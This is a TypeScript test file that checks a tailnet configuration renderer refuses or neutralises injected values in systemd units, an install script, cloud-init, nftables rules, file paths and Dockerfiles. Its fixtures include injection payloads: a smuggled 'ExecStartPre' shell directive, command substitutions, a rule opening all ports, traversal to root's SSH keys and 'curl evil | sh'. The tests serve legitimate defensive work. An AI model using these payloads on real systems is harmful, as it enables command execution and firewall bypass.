/**
 * The security review's findings, each as a regression test: a hostile value injected straight
 * into the model (resolved without validation, as if it got past the grammar) either reaches the
 * file as data, read back by the real reader with the file's structure unchanged, or is refused by
 * the escaper with an UnwritableValueError before anything is written.
 */
import { spawnSync } from "node:child_process";
import { chmodSync, existsSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join, relative } from "node:path";
import { describe, expect, it } from "vitest";
import { writeTreeAtomically } from "../../cli/write-tree.js";
import type { TailnetSpec } from "../../model/index.js";
import { UnwritableValueError } from "../../render/escape/refuse.js";
import { renderCloudInit, renderDerpYaml, renderNftables, renderSystemdUnits, renderTailnet } from "../../render/index.js";
import { renderTemplate } from "../../render/templates.js";
import { hasCommand } from "../support/commands.js";
import { hostileModel, renameHost } from "../support/hostile-model.js";
import { loadUnits, nftLoad, pyYaml } from "../support/read-back.js";
import { scratchDir } from "../support/scratch.js";
import { exampleSpec } from "../support/specs.js";
import { vmDnsSpec, vmSpec } from "../support/vm-specs.js";

const model = (spec: TailnetSpec, change: (s: TailnetSpec) => void) => hostileModel(spec, change, scratchDir("cdktf-tailnet-hostile-"));
const host = (m: ReturnType<typeof model>, name: string) => m.hosts.find((h) => h.name === name)!;
const INJECT = "\n[Service]\nExecStartPre=+/bin/sh -c 'touch /PWN'";
const canSystemd = hasCommand("systemd-analyze");

describe("systemd: a line break in a spec value never becomes a directive", () => {
  it("a DERP node's name (derper.service Description=, the ACME units) is refused", () => {
    const m = model(vmSpec(), (s) => (s.derp!.regions![0]!.nodes[0]!.name = `fra-1${INJECT}`));
    expect(() => renderSystemdUnits(m, host(m, "fra-1"))).toThrow(UnwritableValueError);
    expect(() => renderSystemdUnits(m, host(m, "fra-1"))).toThrow("into a systemd unit value: it holds a line break (\\n)");
    const dns = model(vmDnsSpec(), (s) => (s.derp!.regions![0]!.nodes[0]!.name = `home-1${INJECT}`));
    expect(() => renderTailnet(dns)).toThrow(UnwritableValueError);
  });

  it("dns.zoneId (the updater's Description=) and the helpers' token and TSIG secret files (LoadCredential=) are refused", () => {
    const zone = model(vmDnsSpec(), (s) => (s.dns = { provider: "cloudflare", zoneId: `0123abcd${INJECT}` }));
    expect(() => renderTailnet(zone)).toThrow("into a systemd unit value: it holds a line break (\\n)");
    const token = model(vmDnsSpec(), (s) => (s.hosts![1]!.ddns!.provider = { type: "cloudflare", tokenFile: `/etc/token${INJECT}` }));
    expect(() => renderTailnet(token)).toThrow("into a systemd unit value: it holds a line break (\\n)");
    const tsig = model(vmDnsSpec(), (s) => {
      const cert = s.derp!.regions![0]!.nodes[0]!.certificate as { provider: { tsigSecretFile?: string } };
      cert.provider.tsigSecretFile = `/etc/tsig${INJECT}`;
    });
    expect(() => renderTailnet(tsig)).toThrow("into a systemd unit value: it holds a line break (\\n)");
  });

  it.skipIf(!canSystemd)("headscale.serverUrl reaches derper as one argument, line break and all (ExecStart=), and adds no command", () => {
    const m = model(vmSpec(), (s) => (s.headscale.serverUrl = `https://hs.example.com/a b%n$HOME${INJECT}`));
    const units = Object.fromEntries(renderSystemdUnits(m, host(m, "fra-1")));
    const loaded = loadUnits(units).units.get("derper.service")!;
    expect(loaded.commands).toHaveLength(1);
    expect(loaded.commands[0]).toContain(`-verify-client-url=https://hs.example.com/a b%n$HOME${INJECT}/verify`);
    expect(loaded.dump).not.toContain("-> ExecStartPre:");
  });

  it.skipIf(!canSystemd)(
    "values that can be written are written: a token file with spaces, %, $ and quotes (LoadCredential=) loads without a complaint",
    () => {
      const file = `/etc/cdktf tailnet/100% "token" $HOME;x`;
      const m = model(vmDnsSpec(), (s) => (s.hosts![1]!.ddns!.provider = { type: "cloudflare", tokenFile: file }));
      const units = Object.fromEntries(
        renderTailnet(m)
          .filter((f) => f.path.startsWith("hosts/home/ddns/cdktf-tailnet-ddns."))
          .map((f) => [f.path.split("/").pop()!, f.content]),
      );
      expect(units["cdktf-tailnet-ddns.service"]).toContain('\nLoadCredential=cloudflare-token:/etc/cdktf tailnet/100%% "token" $HOME;x\n');
      const loaded = loadUnits(units);
      expect(loaded.stderr.split("\n").filter((l) => !/Failed to parse system call, ignoring/.test(l) && l !== "")).toEqual([]);
      expect(loaded.units.get("cdktf-tailnet-ddns.service")!.commands).toEqual([
        ["/bin/sh", "/usr/local/lib/cdktf-tailnet/ddns-update.sh", "/etc/cdktf-tailnet/ddns.env"],
      ]);
    },
  );
});

describe("shell: a node name never runs as a command in the VM install script", () => {
  it("a node name with ; > is refused where it would name a directory (StateDirectory=), before the script is written", () => {
    const m = model(vmDnsSpec(), (s) => (s.derp!.regions![0]!.nodes[0]!.name = "home-1;id>PWN;true"));
    expect(() => renderTailnet(m)).toThrow(
      'cannot write "cdktf-tailnet/acme/home-1;id>PWN;true" into a systemd directory list: it holds the character U+003B (;)',
    );
  });

  it("the install script quotes every unit name it enables: run with a systemctl that records its arguments, nothing else runs", () => {
    const dir = scratchDir("cdktf-tailnet-install-");
    const timers = ["cdktf-tailnet-acme-home-1;id>PWN;true.timer", "x$(touch PWN2)`touch PWN3`.path"];
    const script = renderTemplate("vm-install.sh", {
      host: "home",
      tailnet: "t",
      programList: "derper",
      programs: [],
      units: ["derper.service"],
      nftablesConf: "/etc/nftables.conf",
      headscale: false,
      derperUrl: false,
      derperBuild: false,
      users: [],
      configDirs: [],
      stateDirs: [],
      packages: [],
      timers,
      notes: ["put it into /etc/x; touch PWN4"],
    });
    mkdirSync(join(dir, "bin"));
    writeFileSync(join(dir, "bin", "systemctl"), `#!/bin/sh\nprintf '%s\\0' "$@" >> ${JSON.stringify(join(dir, "calls"))}\n`);
    chmodSync(join(dir, "bin", "systemctl"), 0o755);
    writeFileSync(join(dir, "install.sh"), script);
    for (const step of ["timers", "notes"]) {
      const r = spawnSync("sh", ["install.sh", step], { cwd: dir, env: { PATH: `${join(dir, "bin")}:/usr/bin:/bin` }, encoding: "utf8" });
      expect(r.status, r.stderr).toBe(0);
    }
    expect(readFileSync(join(dir, "calls"), "utf8").split("\0").slice(0, -1)).toEqual([
      "daemon-reload",
      "enable",
      "--now",
      "cdktf-tailnet-acme-home-1\\x3bid\\x3ePWN\\x3btrue.timer",
      "x\\x24\\x28touch\\x20PWN2\\x29\\x60touch\\x20PWN3\\x60.path",
    ]);
    expect(readdirSync(dir).sort()).toEqual(["bin", "calls", "install.sh"]);
  });
});

describe("cloud-init: a YAML 1.1 line break in a value adds no key to the user-data", () => {
  it.skipIf(!hasCommand("python3"))("a region name with U+2028 stays in derp.yaml's region name; PyYAML sees the user-data's own keys only", () => {
    const name = "Frankfurt\u2028bootcmd: [touch /PWN]\u2029\u0085\r";
    const m = model(vmSpec(), (s) => {
      s.derp!.regions![0]!.name = name;
      s.hosts![0]!.vm!.sshAuthorizedKeys = [`ssh-ed25519 AAAA x\u2028bootcmd: [id]`];
    });
    const userData = renderCloudInit(m, host(m, "hs"));
    const read = pyYaml(userData).value as Record<string, unknown>;
    // (package_update and packages: the backups' sqlite3.)
    expect(Object.keys(read).sort()).toEqual(["package_update", "packages", "runcmd", "ssh_authorized_keys", "users", "write_files"]);
    const files = read.write_files as { path: string; content: string }[];
    const derpYaml = files.find((f) => f.path.endsWith("derp.yaml"))!.content;
    expect(derpYaml).toBe(renderDerpYaml(m));
    expect((pyYaml(derpYaml).value as { regions: Record<string, { regionname: string }> }).regions["900"]!.regionname).toBe(name);
  });

  it.skipIf(!hasCommand("cloud-init"))("and cloud-init itself finds it valid cloud-config", () => {
    const m = model(vmSpec(), (s) => (s.derp!.regions![0]!.name = "Frankfurt\u2028bootcmd: [touch /PWN]"));
    const file = join(scratchDir("cdktf-tailnet-cloud-init-"), "user-data.yaml");
    writeFileSync(file, renderCloudInit(m, host(m, "hs")));
    const r = spawnSync("cloud-init", ["schema", "--config-file", file], { encoding: "utf8" });
    expect(r.stdout + r.stderr).toContain("Valid cloud-config");
  });
});

describe("nftables: a node name in a rule's comment", () => {
  it.skipIf(!hasCommand("nft") || process.getuid?.() !== 0)(
    "with quotes and a rule of its own, stays inside the comment: the ruleset loads with the same rules",
    () => {
      const m = model(vmSpec(), (s) => (s.derp!.regions![0]!.nodes[0]!.name = 'fra-1" accept; tcp dport 1-65535 accept comment "all'));
      const ruleset = renderNftables(m, host(m, "fra-1"));
      const loaded = nftLoad(ruleset);
      expect(loaded.error).toBeUndefined();
      expect(loaded.listed).not.toMatch(/^\t\ttcp dport 1-65535/m);
      const benign = model(vmSpec(), () => {});
      const rules = (listed: string) => listed.split("\n").filter((l) => /\baccept\b/.test(l)).length;
      expect(rules(loaded.listed!)).toBe(rules(nftLoad(renderNftables(benign, host(benign, "fra-1"))).listed!));
      expect(loaded.listed).toContain("fra-1' accept; tcp dport 1-65535 accept comment 'all");
    },
  );
});

describe("paths: no name leads a file out of the output tree", () => {
  it("a host named ../../x is one folder inside hosts/, and the tree is written inside --out", async () => {
    const m = model(vmSpec(), (s) => renameHost(s, "fra-1", "../../x"));
    const files = renderTailnet(m);
    expect(files.map((f) => f.path).filter((p) => p.includes("x/"))).toContain("hosts/%2E.%2F..%2Fx/cloud-init.yaml");
    const root = scratchDir("cdktf-tailnet-tree-");
    await writeTreeAtomically(join(root, "out"), files);
    expect(readdirSync(root)).toEqual(["out"]);
    expect(existsSync(join(root, "out", "hosts", "%2E.%2F..%2Fx", "nftables.conf"))).toBe(true);
    expect(relative(root, join(root, "out", files[0]!.path)).startsWith("out/")).toBe(true);
  });

  it("a file cloud-init writes on the VM is at an absolute, normalised path, or refused (a DERP map path with ..)", () => {
    const resolved = model(vmSpec(), () => {});
    const m = { ...resolved, headscale: { ...resolved.headscale, derpMapPaths: ["/etc/headscale/../../root/.ssh/authorized_keys"] } };
    expect(() => renderCloudInit(m, host(m, "hs"))).toThrow(
      'cdktf-tailnet: cannot write "/etc/headscale/../../root/.ssh/authorized_keys" into a VM file path: it is not an absolute, normalised path',
    );
  });

  it("the tree writer refuses a path that leads out, and two files on one path", async () => {
    const root = scratchDir("cdktf-tailnet-tree-");
    await expect(writeTreeAtomically(join(root, "out"), [{ path: "a/../../b", content: "", mode: 0o644 }])).rejects.toThrow(
      "rendered paths must be relative and stay inside the output directory",
    );
    await expect(
      writeTreeAtomically(join(root, "out"), [
        { path: "a", content: "1", mode: 0o644 },
        { path: "a", content: "2", mode: 0o644 },
      ]),
    ).rejects.toThrow('refusing to write "a" twice: two rendered files would share one path');
  });
});

describe("Dockerfiles: a node name never adds an instruction", () => {
  it("a dns-01 node's name with a line break is refused where it names the settings file (COPY)", () => {
    const m = model(exampleSpec(), (s) => (s.derp!.regions!.find((r) => r.code === "home")!.nodes[0]!.name = "home-1\nRUN curl evil | sh"));
    expect(() => renderTailnet(m)).toThrow(UnwritableValueError);
  });
});
